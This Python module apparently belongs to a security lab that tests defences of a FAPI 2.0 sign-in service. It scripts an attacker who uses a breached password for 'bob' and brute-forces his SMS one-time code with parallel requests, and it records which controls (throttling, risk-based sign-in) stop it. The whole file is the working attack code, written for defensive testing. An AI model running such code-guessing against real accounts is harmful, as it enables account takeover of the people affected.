"""otp-brute-force: bob's SMS code guessed at the second-factor step.

The CS attacker has bob's password (from a breach) but not his phone. From 127.0.0.2 it
starts a sign-in of its own client, passes the password step, and tries every code in
parallel; the real one sits in bob's SMS inbox. Nothing in FAPI 2.0 limits guessing (AM §6);
RTS Art. 4 asks for at most five attempts, NIST SP 800-63B §5.2.2 for throttling.

Bounded by count, never by time: a lab setting shrinks the code space to CODE_SPACE codes
(two digits instead of four, put back afterwards), and the attacker tries each at most once,
WORKERS at a time, so a loaded machine takes longer but reaches the same verdict. With four
digits the same search is 10,000 tries: minutes, not a different result.
"""

from __future__ import annotations

import threading
from concurrent.futures import ThreadPoolExecutor
from typing import Any

from attacker import login_support as ls
from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from lab.domain import customers

WORKERS = 8
CODE_SPACE = 100
STOLEN = ("bob", "canwefixit")


def run(ctx: AttackContext) -> None:
    saved = ctx.store.get_setting(customers.SMS_CODE_SPACE_KEY)
    ctx.store.set_setting(customers.SMS_CODE_SPACE_KEY, CODE_SPACE)
    ctx.step("lab", f"lab setting: SMS codes come from a space of {CODE_SPACE} (instead of "
             "10,000), so the whole search is a bounded count")
    try:
        _guess(ctx)
    finally:
        ctx.store.set_setting(customers.SMS_CODE_SPACE_KEY,
                              saved if saved is not None else customers.SMS_CODE_SPACE)


def _guess(ctx: AttackContext) -> None:
    username, password = STOLEN
    http = ls.attacker_session(ctx)
    page = ls.own_login_page(ctx, http)
    answer = ls.password_login(ctx, http, page, username, password,
                               what=f"signs in at the AS as {username} with the stolen password")
    ls.stop_if_device_asked(ctx, http, answer, username)
    reached = ls.signed_in(answer)
    if reached == "consent":
        ctx.succeeded(f"no second factor was asked: {username}'s password alone signed in",
                      {"username": username, "codes_tried": 0})
    form = ls.login_form(answer) if reached == "mfa" else None
    if form is None:
        ctx.failed(f"the AS refused {username}'s password", answer)
    action, fields = form
    digits = len(str(CODE_SPACE - 1))
    codes = iter(f"{n:0{digits}d}" for n in range(CODE_SPACE))
    lock = threading.Lock()
    stop = threading.Event()
    found: dict[str, Any] = {}
    tried = 0

    def worker() -> None:
        nonlocal tried
        while not stop.is_set():
            with lock:
                code = next(codes, None)
            if code is None:
                return
            r = http.post(action, data=[*fields, ("code", code), ("action", "verify")],
                          allow_redirects=False, timeout=30)
            ctx.note_request(r, actor="attacker")
            with lock:
                tried += 1
            if r.is_redirect and "/consent" in r.headers.get("Location", ""):
                found.setdefault("hit", code)
                stop.set()
            elif r.status_code == 429:
                found.setdefault("refused", r)
                stop.set()

    ctx.step("attacker", f"posts the codes 0..{CODE_SPACE - 1} to the second-factor form, "
             f"{WORKERS} at a time")
    with ThreadPoolExecutor(WORKERS) as pool:
        for future in [pool.submit(worker) for _ in range(WORKERS)]:
            future.result()
    if "hit" in found:
        ctx.succeeded(f"guessed {username}'s SMS code {found['hit']} after {tried} tries: "
                      "signed in", {"username": username, "code": found["hit"],
                                    "codes_tried": tried})
    ctx.failed(f"no code worked after {tried} tries"
               + (": the AS locked the account (429)" if "refused" in found else ""),
               found.get("refused"))


ATTACK = Attack(
    id="otp-brute-force", attacker="CS", legs=("own",), victim="none",
    title="Second factor guessed",
    blocked_by=("login_throttling",),
    premise="Has bob's password from a breach, not his phone; bob's second factor is a short "
            "code sent by SMS.",
    goal="a signed-in session as bob", run=run,
    fapi2_blocks=False,
    why_not="user authentication is outside FAPI 2.0's attacker model (AM §6); a short code "
            "falls to guessing unless the AS counts failures",
    refs=("RTS Art. 4", "NIST SP 800-63B §5.2.2"),
    not_alone={
        "login_throttling":
            "over legacy the AS asks no second factor (mfa_required off): bob's password "
            "alone signs in, and a right password is not throttled; with mfa_required on "
            "(fapi2-security+adaptive) it locks bob after five wrong codes",
    },
    also_blocked_by={
        "risk_based_auth":
            "the guessing starts with a sign-in as bob from a new address and browser: the "
            "risk score asks bob's phone, bob declines, and the attacker never reaches the "
            "code step (under fapi2-security+adaptive this comes before any lockout)",
    },
)
